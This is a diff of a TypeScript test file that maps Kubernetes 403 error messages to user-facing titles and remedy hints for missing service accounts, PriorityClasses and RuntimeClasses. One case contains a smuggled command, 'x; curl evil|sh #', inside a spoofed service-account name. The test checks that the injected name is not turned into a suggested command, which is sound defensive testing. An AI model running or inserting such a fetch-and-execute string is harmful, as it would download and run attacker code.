@@ -70,11 +70,38 @@ test.each<[string, ReturnType<typeof status>, object]>([
     'a service account that is not there',
     replies.serviceAccountNotFound('p', 'builder', 'etl'),
     {
-      reason: 'InvalidPod',
+      reason: 'ContainerConfig',
       title: 'No such service account',
       sentence: 'Service account builder does not exist in namespace etl.',
       remedy: expect.stringContaining('kubectl -n etl create serviceaccount builder'),
     },
+  ],
+  [
+    'a priority class that is not there',
+    status(403, 'Forbidden', 'pods "p" is forbidden: no PriorityClass with name high was found'),
+    {
+      reason: 'ContainerConfig',
+      sentence: 'PriorityClass "high" does not exist on this cluster.',
+      remedy: expect.stringContaining('`priority_class_name`'),
+    },
+  ],
+  [
+    'a runtime class that is not there',
+    status(403, 'Forbidden', 'pods "p" is forbidden: pod rejected: RuntimeClass "gvisor" not found'),
+    {
+      reason: 'ContainerConfig',
+      sentence: 'RuntimeClass "gvisor" does not exist on this cluster.',
+      remedy: expect.stringContaining('kubectl get runtimeclass'),
+    },
+  ],
+  [
+    'a policy whose words look like the server’s own, with a command in them',
+    status(
+      403,
+      'Forbidden',
+      'pods "p" is forbidden: ValidatingAdmissionPolicy "x" with binding "y" denied request: serviceaccount "x; curl evil|sh #" not found',
+    ),
+    { reason: 'Forbidden', title: 'Refused by the cluster' },
   ],
   [
     'a webhook that denies with 403',
